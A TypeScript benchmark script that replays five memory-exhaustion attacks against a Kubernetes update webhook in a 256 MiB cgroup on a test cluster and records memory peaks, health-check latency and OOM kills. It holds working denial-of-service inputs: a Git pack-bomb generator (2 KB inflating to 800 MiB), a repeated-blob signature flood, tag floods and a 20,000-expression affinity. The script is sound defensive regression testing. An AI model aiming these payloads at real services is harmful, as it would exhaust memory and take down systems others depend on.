/*
 * `node bench/attacks.ts [binary]`: issue 36's two attacks that took the pod down, against dist/webhook (or
 * BENCH_OURS, or the binary given) in a memory cgroup limited to 256 MiB as deploy/ and the chart limit it, on the
 * test cluster (XDG_CACHE_HOME as for the tests) and go-containerregistry's lab registry (test/oci-registry.ts).
 *
 * 1. window: one workload annotated webhook/window with 5,000 ranges (245 KB), each a different spelling of
 *    America/Argentina/ComodRivadavia; pushed twice.
 * 2. signatures: a digest whose .sig manifest lists one payload blob 20 times, plus 20 referrers each listing it
 *    20 times, each signature over something else under the hook's Ed25519 key; pushed once with a blob just under
 *    64 KiB, once with a 1 MiB blob (the old reader's blob cap).
 * 3. watch (issue 46): 300 Deployments (replicas 0) annotated webhook/poll, each on a repository of its own with
 *    5,000 tags of 120 characters (five pages of 1,000), on 30 registry hosts (TLS servers on loopback, ports of
 *    their own): what the registry watch holds while it lists them all. Looked at until every repository was
 *    listed once (webhook_registry_watch_looks_total), or two minutes.
 *
 * 4. pack (issue 46): a Git server (git http-backend, test/git-server.ts) whose fetch answer is a pack of 2 KB: a
 *    64 KiB blob and 100 deltas on it, each 128 copy instructions making 8 MiB (800 MiB in all), for a push to a
 *    GIT_REPO hook.
 * 5. affinity (issue 46): 1,000 nodes, and a workload whose required node affinity has 20,000 `In` expressions
 *    (each holding on every node), pushed twice as an index (linux/amd64, linux/arm64) to a VERIFY_IMAGE hook,
 *    whose platform check reads the affinity against every node.
 *
 * BENCH_ATTACKS=window,signatures,watch,pack,affinity picks some (all by default).
 * For each: VmRSS and RssAnon before and after, the peak (VmHWM, from /proc/<pid>/status), the longest GET /healthz
 * answered while the pushes ran (asked every 50 ms), the answers, the registry requests, and whether the OOM killer
 * acted in the cgroup. Needs root for the cgroup (v1, /sys/fs/cgroup/memory), as bench:burst does.
 */
import { generateKeyPairSync, sign, type KeyObject } from 'node:crypto';
import * as fs from 'node:fs';
import * as https from 'node:https';
import type { AddressInfo } from 'node:net';
import * as path from 'node:path';
import { clusterOrSkip, deployment, acrPayload, freshNamespaceName, kubectlFor, removeNamespace } from '../test/cluster/kube.ts';
import { adminPort, httpRequest, makeTempDir, startWebhook, waitFor, type Webhook } from '../test/harness.ts';
import { makeCertificate } from '../test/registry.ts';
import { makeRepository, startGitServer } from '../test/git-server.ts';
import { deflateSync } from 'node:zlib';
import { createHash } from 'node:crypto';
import { pktLine } from '../webhook.ts';
import { pushBlob, pushManifest, startOciRegistry, type OciRegistry } from '../test/oci-registry.ts';
import { fixedSettings, registryHook, upgradeHook } from '../test/upgrade-hooks.ts';
import { OURS } from './common.ts';

const BIN = process.argv[2] ?? OURS;
const LIMIT_MB = 256;
const TOKEN = 'bench-attacks-token-5d1c9e';
const CGROUP = path.join('/sys/fs/cgroup/memory', `webhook-bench-attacks-${process.pid}`);

/** VmRSS, RssAnon and VmHWM of a process, in MiB (NaN once it is gone). */
function memory(pid: number): { rss: number; anon: number; hwm: number } {
  let text = '';
  try {
    text = fs.readFileSync(`/proc/${pid}/status`, 'utf8');
  } catch {
    /* gone: NaN below */
  }
  const kb = (k: string) => Number(text.match(new RegExp(`^${k}:\\s+(\\d+) kB`, 'm'))?.[1] ?? NaN);
  return { rss: kb('VmRSS') / 1024, anon: kb('RssAnon') / 1024, hwm: kb('VmHWM') / 1024 };
}

const oomKills = () => Number(/^oom_kill (\d+)$/m.exec(fs.readFileSync(path.join(CGROUP, 'memory.oom_control'), 'utf8'))?.[1]);

/** The binary started in the cgroup: a shell joins it and exec()s the binary (same pid). */
function inCgroup(): string {
  fs.mkdirSync(CGROUP);
  fs.writeFileSync(path.join(CGROUP, 'memory.limit_in_bytes'), String(LIMIT_MB * 1024 * 1024));
  const script = path.join(makeTempDir('bench-attacks-'), 'webhook');
  fs.writeFileSync(script, `#!/bin/sh\necho $$ > ${path.join(CGROUP, 'cgroup.procs')} && exec ${BIN} "$@"\n`, { mode: 0o755 });
  return script;
}

/** `pushes`, one after another, with GET /healthz asked every 50 ms meanwhile: the answers and the longest GET. */
async function underWatch(wh: Webhook, pushes: (() => Promise<{ status: number; body: string }>)[]) {
  let done = false;
  let longest = 0;
  const watch = (async () => {
    while (!done) {
      const started = performance.now();
      await httpRequest(wh.port, '/healthz').catch(() => undefined);
      longest = Math.max(longest, performance.now() - started);
      await new Promise((r) => setTimeout(r, 50));
    }
  })();
  const answers: string[] = [];
  for (const push of pushes) {
    const res = await push().catch((e: Error) => ({ status: 0, body: `no answer: ${e.message}` }));
    const result = (/^result: .*$/m.exec(res.body) ?? /^action: .*$/m.exec(res.body))?.[0] ?? res.body.slice(0, 200);
    answers.push(`${res.status} ${result.slice(0, 160)}`);
  }
  done = true;
  await watch;
  return { answers, longestHealthzMs: Math.round(longest) };
}

function report(name: string, pid: number, before: ReturnType<typeof memory>, r: Awaited<ReturnType<typeof underWatch>>, extra = '') {
  const after = memory(pid);
  const f = (n: number) => (Number.isNaN(n) ? 'gone' : `${n.toFixed(0)} MB`);
  console.log(`\n${name}${extra}`);
  console.log(`  RSS ${f(before.rss)} → ${f(after.rss)}; RssAnon ${f(before.anon)} → ${f(after.anon)}; peak (VmHWM) ${f(after.hwm)}`);
  console.log(`  longest GET /healthz meanwhile: ${r.longestHealthzMs} ms; OOM kills so far: ${oomKills()}`);
  for (const a of r.answers) console.log(`  answer: ${a}`);
}

/** Attack 1: the 5,000-range window on one workload, pushed twice. */
async function windowAttack(kubectl: ReturnType<typeof kubectlFor>, ns: string, wh: Webhook): Promise<void> {
  const zone = 'America/Argentina/ComodRivadavia';
  const spelling = (i: number) => [...zone].map((c, k) => ((i >> (k % 12)) & 1 ? c.toUpperCase() : c.toLowerCase())).join('');
  const window = Array.from({ length: 5000 }, (_, i) => `Mon 00:00-00:01 ${spelling(i)}`).join(';');
  const file = path.join(makeTempDir('bench-attacks-'), 'patch.json');
  fs.writeFileSync(file, JSON.stringify({ metadata: { annotations: { 'webhook/window': window } } }));
  await kubectl(['-n', ns, 'patch', 'deployment/wide', '--type', 'merge', '--patch-file', file]);
  const q = new URLSearchParams({ token: TOKEN, ns, workload: 'deployment/wide', container: 'app', repo_type: 'regionalregistry' });
  const push = (tag: string) => () => wh.request(`/hooks/plain?${q}`, { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: acrPayload(tag) });
  const pid = wh.proc.pid!;
  const before = memory(pid);
  report('1. window: 5,000 ranges (245 KB), each a spelling of one zone, pushed twice', pid, before, await underWatch(wh, [push('v2'), push('v3')]));
}

/** Attack 2: one payload blob listed 20 times in the .sig manifest and 20 times in each of 20 referrers. */
async function signatureAttack(oci: OciRegistry, ns: string, wh: Webhook, key: KeyObject, size: number, tag: string) {
  const repo = 'acme/flood';
  const config = Buffer.from(JSON.stringify({ architecture: 'amd64', os: 'linux', rootfs: { type: 'layers', diff_ids: [] }, comment: tag }));
  const configDigest = await pushBlob(oci, repo, config);
  const MANIFEST = 'application/vnd.oci.image.manifest.v1+json';
  const digest = await pushManifest(oci, repo, { schemaVersion: 2, mediaType: MANIFEST,
    config: { mediaType: 'application/vnd.oci.image.config.v1+json', digest: configDigest, size: config.length }, layers: [] }, tag);
  const payload = Buffer.from(JSON.stringify({ critical: { identity: { 'docker-reference': `${oci.host}/${repo}` },
    image: { 'docker-manifest-digest': digest }, type: 'cosign container image signature' }, optional: null }).padEnd(size));
  const layer = { mediaType: 'application/vnd.dev.cosign.simplesigning.v1+json', digest: await pushBlob(oci, repo, payload), size,
    annotations: { 'dev.cosignproject.cosign/signature': sign(null, Buffer.from('another payload'), key).toString('base64') } };
  const empty = await pushBlob(oci, repo, Buffer.from('{}'));
  const sigConfig = (mediaType: string) => ({ mediaType, digest: empty, size: 2 });
  await pushManifest(oci, repo, { schemaVersion: 2, mediaType: MANIFEST, config: sigConfig('application/vnd.oci.image.config.v1+json'),
    layers: Array(20).fill(layer) }, `${digest.replace(':', '-')}.sig`);
  for (let i = 0; i < 20; i++)
    await pushManifest(oci, repo, { schemaVersion: 2, mediaType: MANIFEST, config: sigConfig('application/vnd.dev.cosign.artifact.sig.v1+json'),
      layers: Array(20).fill(layer), subject: { mediaType: MANIFEST, digest, size: 0 }, annotations: { copy: String(i) } });
  const mark = oci.requests().length;
  const push = () => wh.request(`/hooks/flood?${new URLSearchParams({ token: TOKEN, ns, workload: 'deployment/flood', container: 'app' })}`, {
    method: 'POST', headers: { 'Content-Type': 'application/vnd.docker.distribution.events.v1+json' },
    body: JSON.stringify({ events: [{ action: 'push', timestamp: new Date().toISOString(),
      target: { mediaType: MANIFEST, repository: repo, tag, digest }, request: { host: oci.host, method: 'PUT' } }] }),
  });
  const pid = wh.proc.pid!;
  const before = memory(pid);
  const r = await underWatch(wh, [push]);
  const requests = oci.requests().slice(mark);
  const blobs = requests.filter((q) => q.includes(`/blobs/${layer.digest}`)).length;
  report(`2. signatures: a ${(size / 1024).toFixed(0)} KiB payload listed 20 times in the .sig manifest and in each of 20 referrers`, pid, before, r,
    `\n  registry requests: ${requests.length}, of which GETs of the payload blob: ${blobs}`);
}

/** `count` TLS servers on loopback, each a registry whose every repository lists 5,000 tags of 120 characters. */
async function tagFloods(count: number, caFile: string, certs: { certFile: string; keyFile: string }) {
  const tag = (i: number) => `1.0.${i}-${'x'.repeat(110)}`.slice(0, 120);
  const page = (from: number) => JSON.stringify({ name: 'acme/r', tags: Array.from({ length: 1000 }, (_, i) => tag(from + i)) });
  const servers: https.Server[] = [];
  for (let i = 0; i < count; i++) {
    const server = https.createServer({ cert: fs.readFileSync(certs.certFile), key: fs.readFileSync(certs.keyFile) }, (req, res) => {
      const url = new URL(req.url ?? '/', 'https://x');
      const last = Number(url.searchParams.get('last')?.split('.')[2]?.split('-')[0] ?? -1);
      const from = last + 1;
      const headers: Record<string, string> = { 'Content-Type': 'application/json' };
      if (from + 1000 < 5000) headers.Link = `<${url.pathname}?n=1000&last=${encodeURIComponent(tag(from + 999))}>; rel="next"`;
      if (!url.pathname.endsWith('/tags/list')) return void res.writeHead(404).end();
      res.writeHead(200, headers).end(page(from));
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    servers.push(server);
  }
  return { hosts: servers.map((s) => `127.0.0.1:${(s.address() as AddressInfo).port}`), caFile,
    close: () => servers.forEach((s) => s.close()) };
}

/** Attack 3's workloads, made before the service starts (its first scan finds them): 300, on 30 hosts. */
async function watchedWorkloads(kubectl: ReturnType<typeof kubectlFor>, ns: string, hosts: string[]): Promise<void> {
  const items = Array.from({ length: 300 }, (_, n) => {
    const d = deployment(`w-${n}`, [{ name: 'app', image: `${hosts[n % hosts.length]}/acme/r${n}:1.0.0` }], { replicas: 0 }) as
      { metadata: Record<string, unknown> };
    d.metadata.annotations = { 'webhook/poll': '10s', 'webhook/hook': 'watched', 'webhook/policy': 'semver:^2' };
    return d;
  });
  await kubectl(['-n', ns, 'apply', '-f', '-'], JSON.stringify({ apiVersion: 'v1', kind: 'List', items }));
}

/** Attack 3: 300 watched workloads, each on a repository of 5,000 long tags, on 30 hosts. */
async function watchAttack(wh: Webhook): Promise<void> {
  const pid = wh.proc.pid!;
  const before = memory(pid);
  let peak = 0;
  const sampler = setInterval(() => (peak = Math.max(peak, memory(pid).anon || 0)), 50);
  const looks = async () => (await httpRequest(await adminPort(wh), '/metrics')).body.split('\n')
    .filter((l) => l.startsWith('webhook_registry_watch_looks_total{')).reduce((n, l) => n + Number(l.split(' ').at(-1)), 0);
  const started = performance.now();
  const listed = await waitFor(async () => ((await looks().catch(() => 0)) >= 300 ? looks() : undefined), { timeoutMs: 120_000, what: '300 looks' })
    .catch(() => looks().catch(() => NaN));
  clearInterval(sampler);
  const r = { answers: [`${listed} looks in ${((performance.now() - started) / 1000).toFixed(0)} s; peak RssAnon sampled: ${peak.toFixed(0)} MB`], longestHealthzMs: NaN };
  report('3. watch: 300 workloads, each on a repository of 5,000 tags of 120 characters, on 30 hosts', pid, before, r);
}

/** A pack of one `baseBytes` blob and `deltas` OFS_DELTAs on it, each `copies` copies of its first 64 KiB. */
function packBomb(baseBytes: number, deltas: number, copies: number): Buffer {
  const size = (n: number) => {
    const bytes = [];
    for (; n >= 0x80; n = Math.floor(n / 128)) bytes.push((n & 0x7f) | 0x80);
    return [...bytes, n];
  };
  const header = (type: number, n: number) => {
    const bytes = [(type << 4) | (n & 15) | (n >= 16 ? 0x80 : 0)];
    for (n = Math.floor(n / 16); n > 0; n = Math.floor(n / 128)) bytes.push((n & 0x7f) | (n >= 128 ? 0x80 : 0));
    return Buffer.from(bytes);
  };
  const back = (n: number) => {
    const bytes = [n & 0x7f];
    for (n = Math.floor(n / 128); n > 0; n = Math.floor(n / 128)) bytes.unshift(0x80 | (--n & 0x7f));
    return Buffer.from(bytes);
  };
  // 0x80 alone: copy 0x10000 bytes from offset 0.
  const raw = Buffer.from([...size(baseBytes), ...size(copies * 0x10000), ...Array(copies).fill(0x80)]);
  const delta = deflateSync(raw);
  const count = Buffer.alloc(4);
  count.writeUInt32BE(deltas + 1);
  const parts = [Buffer.from('PACK\0\0\0\x02', 'latin1'), count, header(3, baseBytes), deflateSync(Buffer.alloc(baseBytes))];
  let at = parts.reduce((n, b) => n + b.length, 0);
  for (let i = 0; i < deltas; i++) {
    const entry = Buffer.concat([header(6, raw.length), back(at - 12), delta]);
    parts.push(entry);
    at += entry.length;
  }
  const body = Buffer.concat(parts);
  return Buffer.concat([body, createHash('sha1').update(body).digest()]);
}

/** Attack 4: the fetch's answer a pack bomb (2 KB, 800 MiB inflated), for a push to a GIT_REPO hook. */
async function packAttack(wh: Webhook, server: Awaited<ReturnType<typeof startGitServer>>, ns: string): Promise<void> {
  const pack = packBomb(0x10000, 100, 128);
  const band = [];
  for (let i = 0; i < pack.length; i += 65515) band.push(pktLine(Buffer.concat([Buffer.from([1]), pack.subarray(i, i + 65515)])));
  const answer = Buffer.concat([pktLine('packfile\n'), ...band, Buffer.from('0000')]);
  server.answer = (p, body) => (p.endsWith('/git-upload-pack') && body.includes('packfile\n') ? answer : body);
  const q = new URLSearchParams({ token: TOKEN, ns, workload: 'deployment/wide', container: 'app', repo_type: 'regionalregistry' });
  const push = () => wh.request(`/hooks/git?${q}`, { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: acrPayload('v9') });
  const pid = wh.proc.pid!;
  const before = memory(pid);
  report(`4. pack: a fetch answered with a pack of ${pack.length} bytes, 100 deltas of 8 MiB each on a 64 KiB blob`, pid, before, await underWatch(wh, [push]));
}

/** Attack 5's nodes and workload: 1,000 nodes, and `affine` with 20,000 `In` expressions in its node affinity. */
async function affineWorkload(kubectl: ReturnType<typeof kubectlFor>, ns: string, image: string): Promise<string[]> {
  const nodes = Array.from({ length: 1000 }, (_, i) => ({ apiVersion: 'v1', kind: 'Node',
    metadata: { name: `bench-affinity-${i}`, labels: { 'kubernetes.io/os': 'linux', 'kubernetes.io/arch': 'amd64', 'kubernetes.io/hostname': `bench-affinity-${i}` } } }));
  await kubectl(['apply', '-f', '-'], JSON.stringify({ apiVersion: 'v1', kind: 'List', items: nodes }));
  const d = deployment('affine', [{ name: 'app', image }], { replicas: 0 }) as { spec: { template: { spec: Record<string, unknown> } } };
  // Each holds on every node, so a check that reads them all evaluates 20,000 expressions per node.
  const matchExpressions = Array.from({ length: 20_000 }, () => ({ key: 'kubernetes.io/os', operator: 'In', values: ['linux'] }));
  d.spec.template.spec.affinity = { nodeAffinity: { requiredDuringSchedulingIgnoredDuringExecution: { nodeSelectorTerms: [{ matchExpressions }] } } };
  const file = path.join(makeTempDir('bench-attacks-'), 'affine.json');
  fs.writeFileSync(file, JSON.stringify(d));
  await kubectl(['-n', ns, 'apply', '--server-side', '-f', file]);
  return nodes.map((n) => n.metadata.name);
}

/** Attack 5: a push to the affine workload, twice, through a VERIFY_IMAGE hook (the platform check). */
async function affinityAttack(wh: Webhook, oci: OciRegistry, ns: string): Promise<void> {
  const repo = 'acme/affine';
  const MANIFEST = 'application/vnd.oci.image.manifest.v1+json';
  const INDEX = 'application/vnd.oci.image.index.v1+json';
  /** An index of linux/amd64 and linux/arm64 images: the platform check reads the nodes only for an index. */
  const push = (tag: string) => async () => {
    const manifests = [];
    for (const architecture of ['amd64', 'arm64']) {
      const config = Buffer.from(JSON.stringify({ architecture, os: 'linux', rootfs: { type: 'layers', diff_ids: [] }, comment: tag }));
      const m = { schemaVersion: 2, mediaType: MANIFEST,
        config: { mediaType: 'application/vnd.oci.image.config.v1+json', digest: await pushBlob(oci, repo, config), size: config.length }, layers: [] };
      const digest = await pushManifest(oci, repo, m);
      manifests.push({ mediaType: MANIFEST, digest, size: Buffer.byteLength(JSON.stringify(m)), platform: { os: 'linux', architecture } });
    }
    const digest = await pushManifest(oci, repo, { schemaVersion: 2, mediaType: INDEX, manifests }, tag);
    return wh.request(`/hooks/platforms?${new URLSearchParams({ token: TOKEN, ns, workload: 'deployment/affine', container: 'app' })}`, {
      method: 'POST', headers: { 'Content-Type': 'application/vnd.docker.distribution.events.v1+json' },
      body: JSON.stringify({ events: [{ action: 'push', timestamp: new Date().toISOString(),
        target: { mediaType: INDEX, repository: repo, tag, digest }, request: { host: oci.host, method: 'PUT' } }] }),
    });
  };
  const pid = wh.proc.pid!;
  const before = memory(pid);
  report('5. affinity: 20,000 `In` expressions in a required node affinity, 1,000 nodes, pushed twice', pid, before, await underWatch(wh, [push('a2'), push('a3')]));
}

const cluster = await clusterOrSkip();
if (!cluster) throw new Error('no test cluster (XDG_CACHE_HOME as for the tests)');
const kubectl = kubectlFor(cluster);
const ns = freshNamespaceName('attacks');
const oci = await startOciRegistry();
const work = makeTempDir('bench-attacks-');
const { publicKey, privateKey } = generateKeyPairSync('ed25519');
fs.writeFileSync(path.join(work, 'ed.pub'), publicKey.export({ type: 'spki', format: 'pem' }));
fs.writeFileSync(path.join(work, 'oci-ca.pem'), oci.caPem);
const flood = registryHook('flood', { match: { type: 'value', value: TOKEN, parameter: { source: 'url', name: 'token' } } }, 'distribution') as Record<string, object[]>;
flood['pass-environment-to-command'].push(...fixedSettings({ VERIFY_SIGNATURE: `cosign:${path.join(work, 'ed.pub')}`, REGISTRY_CA: path.join(work, 'oci-ca.pem') }));
const certs = makeCertificate(makeTempDir('bench-attacks-tls-'));
const watched = upgradeHook('watched', TOKEN, { ANNOTATION_NAMESPACES: ns, REGISTRY_CA: certs.caFile });
const gitRoot = makeTempDir('bench-attacks-git-');
const gitToken = 'bench-attacks-git-token-77a1';
fs.writeFileSync(path.join(work, 'git-token'), gitToken);
makeRepository(gitRoot, 'deploy', { 'apps/web.yaml': 'apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: wide\n' });
const gitServer = await startGitServer(gitRoot, 'x-access-token', gitToken);
const gitHook = upgradeHook('git', TOKEN, { APP_NS: ns, APP_WORKLOAD: 'deployment/wide', GIT_REPO: `${gitServer.base}/deploy.git`, GIT_PATH: 'apps/web.yaml', GIT_TOKEN: path.join(work, 'git-token') });
const platforms = registryHook('platforms', { match: { type: 'value', value: TOKEN, parameter: { source: 'url', name: 'token' } } }, 'distribution') as Record<string, object[]>;
platforms['pass-environment-to-command'].push(...fixedSettings({ VERIFY_IMAGE: 'true', REGISTRY_CA: path.join(work, 'oci-ca.pem') }));
const script = inCgroup();
/** A fresh service in the cgroup for each attack, so one that kills it does not hide the next one's figures. */
async function withService(attack: (wh: Webhook) => Promise<void>): Promise<void> {
  const wh = await startWebhook({ bin: script, hooks: [upgradeHook('plain', TOKEN), flood, watched, gitHook, platforms], env: { KUBECONFIG: cluster!.kubeconfigPath },
    args: ['-rollout-follow', '0s'], metrics: true });
  try {
    await attack(wh);
  } finally {
    await wh.stop();
  }
}
try {
  await kubectl(['create', 'namespace', ns]);
  await kubectl(['-n', ns, 'apply', '-f', '-'], JSON.stringify({ apiVersion: 'v1', kind: 'List', items: [
    deployment('wide', [{ name: 'app', image: 'registry.cn-hangzhou.aliyuncs.com/shop/web-api:v1' }], { replicas: 1 }),
    deployment('flood', [{ name: 'app', image: `${oci.host}/acme/flood:v1` }], { replicas: 1 }),
  ] }));
  console.log(`${BIN}, in a memory cgroup of ${LIMIT_MB} MiB`);
  const chosen = (process.env.BENCH_ATTACKS ?? 'window,signatures,watch,pack,affinity').split(',');
  if (chosen.includes('window')) await withService((wh) => windowAttack(kubectl, ns, wh));
  if (chosen.includes('signatures')) {
    await withService((wh) => signatureAttack(oci, ns, wh, privateKey, 60 * 1024, 'small'));
    await withService((wh) => signatureAttack(oci, ns, wh, privateKey, 1024 * 1024 - 1024, 'large'));
  }
  if (chosen.includes('watch')) {
    const floods = await tagFloods(30, certs.caFile, certs);
    try {
      await watchedWorkloads(kubectl, ns, floods.hosts);
      await withService((wh) => watchAttack(wh));
    } finally {
      floods.close();
    }
  }
  if (chosen.includes('pack')) await withService((wh) => packAttack(wh, gitServer, ns));
  if (chosen.includes('affinity')) {
    const nodes = await affineWorkload(kubectl, ns, `${oci.host}/acme/affine:a1`);
    try {
      await withService((wh) => affinityAttack(wh, oci, ns));
    } finally {
      await kubectl(['delete', 'node', ...nodes, '--wait=false']);
    }
  }
} finally {
  await gitServer.close();
  await oci.stop();
  await removeNamespace(kubectl, ns);
  fs.rmdirSync(CGROUP);
}
